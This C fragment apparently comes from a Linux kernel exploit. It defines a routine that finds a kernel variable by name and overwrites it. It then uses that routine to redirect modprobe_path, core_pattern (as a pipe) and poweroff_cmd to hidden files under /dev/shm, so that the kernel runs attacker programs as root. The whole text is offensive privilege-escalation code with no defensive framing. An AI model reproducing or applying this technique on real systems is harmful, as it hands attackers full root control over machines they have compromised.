/* --- settings of the kernel's that name a program, which it runs as root: no code is changed ------------------------ */

static int set(const char *name, const char *value, ulong size)
{
	char *setting = (char *)find(name);

	if (!setting)
		return -2;
	copy(setting, value, size);
	return 0;
}
#define SET(name, value) set(name, value, sizeof value)

/* When somebody runs a file of an unknown format, opens a socket of an unknown family, ... */
static int set_modprobe(void)
{
	return SET("modprobe_path", "/dev/shm/.load");
}

/* When a process crashes. */
static int set_core_pattern(void)
{
	return SET("core_pattern", "|/dev/shm/.core %p");
}

static int set_poweroff(void)
{
	return SET("poweroff_cmd", "/dev/shm/.off");
}
